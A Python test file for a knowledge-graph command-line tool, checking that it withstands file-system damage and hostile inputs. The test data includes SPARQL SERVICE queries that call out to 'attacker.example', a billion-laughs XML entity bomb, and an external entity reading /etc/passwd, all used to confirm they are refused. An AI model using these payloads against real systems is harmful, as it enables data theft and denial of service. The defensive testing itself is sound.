"""Attacks and accidents through the file system: the build cache, persistent stores, the project
root, saved queries, RDF/XML entities and the leftovers of killed runs.

Each is refused in one line or repaired without a word; nothing outside what a command made is
ever removed, and nothing that is not a regular file is ever opened.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest
from rdflib import Graph, Literal, URIRef

from conftest import ROOT
from mfgkg import atomic, paths
from mfgkg.data import cache
from mfgkg.errors import QueryError, StoreError
from mfgkg.kg import KnowledgeGraph
from mfgkg.query import persistent
from mfgkg.query.catalogue import Catalogue
from test_cli import mfgkg

QUERY = ("query", "institutes", "-p", "agency=DOE", "--format", "csv")
TRIPLE = b"<https://example.org/s> <https://example.org/p> <https://example.org/o> .\n"


def one_line_error(result: subprocess.CompletedProcess[str], *fragments: str) -> None:
    """The command failed cleanly: non-zero exit, no output, one ``error:`` line holding ``fragments``."""
    assert result.returncode in (1, 2) and result.stdout == "", result.stderr
    assert result.stderr.startswith("error: ") and result.stderr.count("\n") == 1, result.stderr
    assert "Traceback" not in result.stderr
    for fragment in fragments:
        assert fragment in result.stderr, (fragment, result.stderr)


def dead_pid() -> int:
    """The id of a process that has exited."""
    child = subprocess.Popen([sys.executable, "-c", "pass"])
    child.wait()
    return child.pid


# --- B5: pruning the build cache removes only what the cache made -------------------------------


@pytest.fixture()
def tiny_build(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Callable[[int], Path]:
    """Cheap builds with distinct inputs into ``$MFGKG_CACHE`` (tmp_path/cache): call with a number,
    get the cached graph file of inputs that differ from every other number's."""
    monkeypatch.setenv(cache.ENV_CACHE, str(tmp_path / "cache"))

    def build_graph(seeds: Path, ontology: Path) -> Graph:
        graph = Graph()
        graph.add((URIRef("https://example.org/s"), URIRef("https://example.org/p"),
                   Literal((seeds / "n.txt").read_text())))
        return graph

    monkeypatch.setattr("mfgkg.data.builder.build_graph", build_graph)

    def build(number: int) -> Path:
        inputs = tmp_path / "inputs" / str(number)
        (inputs / "seeds").mkdir(parents=True, exist_ok=True)
        (inputs / "ontology").mkdir(exist_ok=True)
        (inputs / "seeds" / "n.txt").write_text(str(number))
        return cache.cached_graph(inputs / "seeds", inputs / "ontology")

    return build


def test_a_users_folders_in_the_cache_survive_many_builds(tmp_path, tiny_build):
    root = tmp_path / "cache"
    root.mkdir()
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "keep.txt").write_text("mine")
    mine = {
        "photos": {"a.jpg": "jpeg"},
        "0123456789abcdef0123456789abcdef": {"notes.txt": "named like a key, no entry manifest"},
        "fedcba9876543210fedcba9876543210": {cache.GRAPH_FILE: "a key and a graph file, still no manifest"},
        "reports": {cache.MANIFEST: "{}", "r.txt": "a manifest, but not named by a key"},
    }
    for folder, files in mine.items():
        (root / folder).mkdir()
        for name, text in files.items():
            (root / folder / name).write_text(text)
    (root / "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa").symlink_to(elsewhere, target_is_directory=True)
    (root / "loose-file.txt").write_text("mine too")

    built = [tiny_build(n).parent for n in range(cache.KEEP + 4)]

    for folder, files in mine.items():
        assert {p.name: p.read_text() for p in (root / folder).iterdir()} == files, folder
    assert (root / "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa").is_symlink()
    assert (elsewhere / "keep.txt").read_text() == "mine"
    assert (root / "loose-file.txt").read_text() == "mine too"
    entries = sorted(p for p in root.iterdir() if cache.made_here(p))
    assert len(entries) == cache.KEEP and set(entries) <= set(built)
    assert all(cache.verified(entry) for entry in entries)


def test_a_legacy_entry_is_pruned_but_a_lookalike_is_not(tmp_path, tiny_build):
    root = tmp_path / "cache"
    legacy = root / ("b" * 32)
    legacy.mkdir(parents=True)
    (legacy / cache.LEGACY_MANIFEST).write_text("{}")
    lookalike = root / ("c" * 32)
    lookalike.mkdir()
    os.mkfifo(lookalike / cache.MANIFEST)  # a manifest must be a regular file to count
    os.utime(legacy, (0, 0))
    os.utime(lookalike, (0, 0))
    for n in range(cache.KEEP + 1):
        tiny_build(n)
    assert not legacy.exists()
    assert lookalike.is_dir() and (lookalike / cache.MANIFEST).exists()


# --- B4: a damaged cache entry is rebuilt; a damaged store is refused in one line ---------------


def flip_bytes(path: Path) -> None:
    """Garbage of the same size: every byte from a quarter of the way in inverted."""
    data = bytearray(path.read_bytes())
    for at in range(len(data) // 4, len(data)):
        data[at] ^= 0xFF
    path.write_bytes(bytes(data))


def biggest(store: Path) -> Path:
    return max((p for p in store.iterdir() if p.suffix == ".sst"), key=lambda p: p.stat().st_size)


def fifo_instead(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


ENTRY_DAMAGE: dict[str, Callable[[Path], None]] = {
    "store file truncated": lambda entry: os.truncate(biggest(entry / cache.STORE_DIR), 100),
    "store file garbled, same size": lambda entry: flip_bytes(biggest(entry / cache.STORE_DIR)),
    "store CURRENT garbage": lambda entry: (entry / cache.STORE_DIR / "CURRENT").write_bytes(b"\x00garbage"),
    "store file missing": lambda entry: biggest(entry / cache.STORE_DIR).unlink(),
    "store marker garbage": lambda entry: (entry / cache.STORE_DIR / persistent.MARKER).write_text("{"),
    "store marker a FIFO": lambda entry: fifo_instead(entry / cache.STORE_DIR / persistent.MARKER),
    "entry manifest a FIFO": lambda entry: fifo_instead(entry / cache.MANIFEST),
    "entry manifest garbage": lambda entry: (entry / cache.MANIFEST).write_bytes(os.urandom(64)),
    "graph file a FIFO": lambda entry: fifo_instead(entry / cache.GRAPH_FILE),
    "graph file truncated": lambda entry: os.truncate(entry / cache.GRAPH_FILE, 10),
}


@pytest.fixture(scope="module")
def built_cache(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A cache holding the real build, and the command line's answer from it."""
    root = tmp_path_factory.mktemp("built-cache")
    answered = mfgkg(*QUERY, env={cache.ENV_CACHE: str(root)})
    assert answered.returncode == 0, answered.stderr
    return root, answered.stdout


@pytest.mark.parametrize("damage", sorted(ENTRY_DAMAGE))
def test_a_damaged_cache_entry_is_rebuilt_and_answers_as_before(tmp_path, monkeypatch, built_cache, damage):
    monkeypatch.setenv(cache.ENV_CACHE, str(tmp_path / "cache"))
    root = tmp_path / "cache"
    shutil.copytree(built_cache[0], root)
    entry = cache.cached_store(ROOT / "seeds", ROOT / "ontology").parent  # the copy, unless the inputs changed since
    assert entry.parent == root
    ENTRY_DAMAGE[damage](entry)
    assert not cache.verified(entry) and not cache.verified(entry, deep=False)  # returns: nothing was opened
    answered = mfgkg(*QUERY, env={cache.ENV_CACHE: str(root)})
    assert answered.returncode == 0 and answered.stderr == "", answered.stderr
    assert answered.stdout == built_cache[1]
    # Rebuilt in place (unless the package's source changed meanwhile, which gives a new key).
    assert cache.verified(entry) or entry.name != cache.content_key(ROOT / "seeds", ROOT / "ontology")


def test_a_fifo_marker_is_never_opened(tmp_path):
    store = tmp_path / "store"
    persistent.create(TRIPLE, store)
    fifo_instead(store / persistent.MARKER)
    assert not persistent.is_store(store)
    with pytest.raises(StoreError, match="not a regular file"):
        persistent.info(store)
    with pytest.raises(OSError, match="not a regular file"):
        atomic.read_marker(store / persistent.MARKER)


def without_recorded_sizes(store: Path) -> None:
    """A marker as stores made before sizes were recorded have it."""
    marker = json.loads((store / persistent.MARKER).read_text())
    del marker["files"]
    (store / persistent.MARKER).write_text(json.dumps(marker))


STORE_DAMAGE: dict[str, tuple[Callable[[Path], None], str]] = {
    "file truncated": (lambda s: os.truncate(biggest(s), 100), "damaged store (0"),
    "file missing": (lambda s: biggest(s).unlink(), "is missing"),
    "marker garbage": (lambda s: (s / persistent.MARKER).write_text("{"), "unreadable store marker"),
    "marker a FIFO": (lambda s: fifo_instead(s / persistent.MARKER), "not a regular file"),
    "marker a directory": (lambda s: ((s / persistent.MARKER).unlink(), (s / persistent.MARKER).mkdir()),
                           "not a regular file"),
    "CURRENT garbage, sizes not recorded": (lambda s: (without_recorded_sizes(s),
                                                       (s / "CURRENT").write_bytes(b"\x00garbage")),
                                            "damaged store, cannot open it"),
}


@pytest.mark.parametrize("damage", sorted(STORE_DAMAGE))
def test_a_corrupt_store_is_refused_in_one_line(tmp_path, damage):
    source = tmp_path / "graph.nt"
    source.write_text("".join(f'<https://example.org/s{i}> <https://example.org/p> "{i}" .\n' for i in range(2000)))
    store = tmp_path / "store"
    assert mfgkg("load", str(source), "--store", str(store)).returncode == 0
    harm, said = STORE_DAMAGE[damage]
    harm(store)
    one_line_error(mfgkg("query", "institutes", "--store", str(store)), f"error: {store}: ", said)
    one_line_error(mfgkg("sparql", "SELECT * WHERE { ?s ?p ?o }", "--store", str(store)), f"error: {store}: ")


# --- V8 (a): the project root is never a parent of the working directory ------------------------


@pytest.fixture()
def planted(tmp_path: Path) -> dict[str, Path]:
    """A parent directory holding seeds/, ontology/ and queries/ with an extra query, and a working
    directory below it that is no project."""
    parent = tmp_path / "shared"
    for name in ("seeds", "ontology", "queries"):
        shutil.copytree(ROOT / name, parent / name)
    shutil.copy(ROOT / "queries" / "institutes.rq", parent / "queries" / "planted-query.rq")
    child = parent / "work" / "deeper"
    child.mkdir(parents=True)
    return {"parent": parent, "child": child}


def unrooted(**extra: str) -> dict[str, str]:
    """This environment without ``$MFGKG_ROOT``, plus ``extra``."""
    return {**{k: v for k, v in os.environ.items() if k != paths.ENV_ROOT}, **extra}


def listed(cwd: Path, *args: str, env: dict[str, str] | None = None) -> str:
    """The saved queries ``mfgkg [args] queries`` lists, run in ``cwd``."""
    result = subprocess.run([sys.executable, "-m", "mfgkg", *args, "queries"], cwd=cwd, capture_output=True,
                            text=True, env=unrooted(**(env or {})), timeout=600)
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_seeds_planted_in_a_parent_directory_are_not_used(planted):
    parent, child = planted["parent"], planted["child"]
    assert "planted-query" not in listed(child)
    where = subprocess.run([sys.executable, "-c", "import mfgkg.paths as p; print(p.project_root())"], cwd=child,
                           capture_output=True, text=True, timeout=600, env=unrooted())
    assert Path(where.stdout.strip()) != parent and not Path(where.stdout.strip()).is_relative_to(parent)
    # Named, or worked in, the same directory is used.
    assert "planted-query" in listed(child, "--root", str(parent))
    assert "planted-query" in listed(child, env={paths.ENV_ROOT: str(parent)})
    assert "planted-query" in listed(parent)


def test_the_root_order_in_the_library(planted, monkeypatch):
    monkeypatch.delenv(paths.ENV_ROOT, raising=False)
    monkeypatch.chdir(planted["child"])
    assert paths.project_root() != planted["parent"]
    monkeypatch.chdir(planted["parent"])
    assert paths.project_root() == planted["parent"]
    monkeypatch.setenv(paths.ENV_ROOT, str(ROOT))
    assert paths.project_root() == ROOT
    try:
        paths.use_root(planted["parent"])
        assert paths.queries_dir() == planted["parent"] / "queries"
    finally:
        paths.use_root(None)
    assert paths.project_root() == ROOT


# --- V8 (b): saved queries pass the same SERVICE guard as ad hoc ones ---------------------------

HEADER = "# title: Calls out\n# description: Reaches another endpoint.\n# columns:\n#   s: a subject\n"
SERVICE_QUERIES = {
    "upper": "SELECT ?s WHERE { SERVICE <http://attacker.example/sparql> { ?s ?p ?o } }",
    "lower": "select ?s where { service <http://attacker.example/sparql> { ?s ?p ?o } }",
    "variable": "SELECT ?s WHERE { BIND(<http://attacker.example/> AS ?e) SERVICE ?e { ?s ?p ?o } }",
    "optional": "SELECT ?s WHERE { ?s a ?t OPTIONAL { SeRvIcE SILENT <http://attacker.example/> { ?s ?p ?o } } }",
    "prefixed": "PREFIX x: <http://attacker.example/>\nSELECT ?s WHERE { SERVICE x:sparql { ?s ?p ?o } }",
}


@pytest.fixture()
def service_queries(tmp_path: Path) -> Path:
    directory = tmp_path / "queries"
    shutil.copytree(ROOT / "queries", directory)
    for name, text in SERVICE_QUERIES.items():
        (directory / f"calls-out-{name}.rq").write_text(HEADER + text + "\n")
    return directory


@pytest.mark.parametrize("variant", sorted(SERVICE_QUERIES))
def test_a_saved_query_calling_service_is_refused_naming_the_file(service_queries, variant):
    with pytest.raises(QueryError, match=rf"^queries/calls-out-{variant}\.rq: query refused: SERVICE "):
        Catalogue(service_queries)[f"calls-out-{variant}"]


def test_the_command_line_refuses_a_saved_service_query_in_one_line(service_queries, tmp_path):
    one_line_error(mfgkg("query", "calls-out-upper", "--queries", str(service_queries)),
                   "error: queries/calls-out-upper.rq: query refused: SERVICE <http://attacker.example/sparql>")
    one_line_error(mfgkg("answer", "--queries", str(service_queries), "--out", str(tmp_path / "answers")),
                   "error: queries/calls-out-", ".rq: query refused: SERVICE ")
    assert not (tmp_path / "answers").exists()
    ordinary = mfgkg("query", "institutes", "--queries", str(service_queries), "--format", "csv")
    assert ordinary.returncode == 0 and "PowerAmerica" in ordinary.stdout


def test_the_fact_checkers_saved_queries_pass_the_same_guard(tmp_path, kg):
    directory = tmp_path / "queries"
    shutil.copytree(ROOT / "queries", directory)
    names = directory / "check" / "names.rq"
    text = names.read_text()
    at = text.index("{") + 1
    names.write_text(text[:at] + " SERVICE <http://attacker.example/sparql> { ?a ?b ?c } " + text[at:])
    with pytest.raises(QueryError, match=r"check: query refused: SERVICE <http://attacker\.example/sparql>"):
        KnowledgeGraph(kg.store, Catalogue(directory)).check_text("America Makes is based in Youngstown, Ohio.")


# --- V6: RDF/XML entities and oversized terms ---------------------------------------------------

RDF_OPEN = ('<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:e="http://example.org/">'
            '<rdf:Description rdf:about="http://example.org/s"><e:p>')
RDF_CLOSE = "</e:p></rdf:Description></rdf:RDF>\n"
LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 9))
RDFXML = {
    "billion laughs": f'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY l0 "ha">{LAUGHS}]>\n{RDF_OPEN}&l8;{RDF_CLOSE}',
    "external entity": f'<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
                       f"{RDF_OPEN}&x;{RDF_CLOSE}",
    "lower-case doctype": f'<?xml version="1.0"?>\n<!doctype r>\n{RDF_OPEN}x{RDF_CLOSE}',
    "entity after the root": f'<?xml version="1.0"?>\n{RDF_OPEN}x{RDF_CLOSE}<!ENTITY x "y">\n',
}


@pytest.mark.parametrize("kind", sorted(RDFXML))
def test_rdfxml_with_entity_declarations_is_refused_and_nothing_written(tmp_path, kind):
    source = tmp_path / "evil.rdf"
    source.write_text(RDFXML[kind])
    if kind == "billion laughs":
        assert source.stat().st_size < 1024
    result = mfgkg("load", str(source), "--store", str(tmp_path / "store"))
    one_line_error(result, f"error: {source}: refused: RDF/XML with a <!", "declaration")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["evil.rdf"]


def test_rdfxml_terms_are_held_to_the_limit_of_other_syntaxes(tmp_path):
    huge = tmp_path / "huge.rdf"
    huge.write_text(f'<?xml version="1.0"?>\n{RDF_OPEN}{"x" * (persistent.MAX_TERM + 1)}{RDF_CLOSE}')
    one_line_error(mfgkg("load", str(huge), "--store", str(tmp_path / "store")),
                   f"error: {huge}: refused: a term of {persistent.MAX_TERM + 1} bytes")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["huge.rdf"]
    fine = tmp_path / "fine.rdf"
    fine.write_text(f'<?xml version="1.0"?>\n{RDF_OPEN}x{RDF_CLOSE}')
    assert persistent.create(fine, tmp_path / "store").triples == 1


# --- B8: outputs appear whole, and the leftovers of killed runs are cleaned ----------------------


def leftover(directory: Path, pid: int, name: str, kind: str = "tmp", folder: bool = False) -> Path:
    path = directory / f".mfgkg-{pid}-{name}.k1ll3d00.{kind}"
    if folder:
        path.mkdir()
        (path / "part").write_text("half written")
    else:
        path.write_text("half written")
    return path


def test_build_cleans_the_leftovers_of_a_killed_build_and_keeps_the_rest(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "notes.txt").write_text("mine")
    dead, alive = dead_pid(), os.getpid()
    stale = [leftover(out, dead, name) for name in ("mfgkg.nt", "mfgkg.ttl", "mfgkg.jsonld")]
    running = leftover(out, alive, "mfgkg.nt")  # another run, still going
    result = mfgkg("build", "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert not any(p.exists() for p in stale)
    assert running.exists() and (out / "notes.txt").read_text() == "mine"
    assert sorted(p.name for p in out.iterdir()) == sorted(
        ["mfgkg.jsonld", "mfgkg.nt", "mfgkg.ttl", "notes.txt", running.name])


def test_load_cleans_the_leftovers_of_a_killed_load(tmp_path):
    source = tmp_path / "graph.nt"
    source.write_bytes(TRIPLE)
    dead = dead_pid()
    stale = leftover(tmp_path, dead, "store", folder=True)
    other = leftover(tmp_path, dead, "another-store", folder=True)  # not this target's: left for its own run
    assert mfgkg("load", str(source), "--store", str(tmp_path / "store")).returncode == 0
    assert not stale.exists() and other.exists()
    assert persistent.info(tmp_path / "store").triples == 1


def test_a_directory_moved_aside_by_a_killed_run_is_put_back(tmp_path):
    aside = leftover(tmp_path, dead_pid(), "site", "old", folder=True)
    (aside / "site").mkdir()
    (aside / "site" / "index.html").write_text("the previous site")
    atomic.clean_leftovers(tmp_path, "site")
    assert (tmp_path / "site" / "index.html").read_text() == "the previous site"
    assert not aside.exists()


def test_the_cache_cleans_staging_left_by_a_killed_build(tmp_path, tiny_build):
    root = tmp_path / "cache"
    root.mkdir()
    stale = leftover(root, dead_pid(), "0" * 32, folder=True)
    tiny_build(1)
    assert not stale.exists()
    assert not [p for p in root.iterdir() if p.name.startswith(".")]


def test_a_directory_output_is_swapped_in_one_step(tmp_path):
    out = tmp_path / "out"
    with atomic.staged_directory(out) as staging:
        (staging / "a").write_text("first")
    with atomic.staged_directory(out) as staging:
        (staging / "b").write_text("second")
    assert sorted(p.name for p in out.iterdir()) == ["b"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]
    first, second = tmp_path / "x", tmp_path / "y"
    first.mkdir()
    second.mkdir()
    (first / "in-x").touch()
    if atomic.exchange(first, second):
        assert [p.name for p in second.iterdir()] == ["in-x"] and not any(first.iterdir())
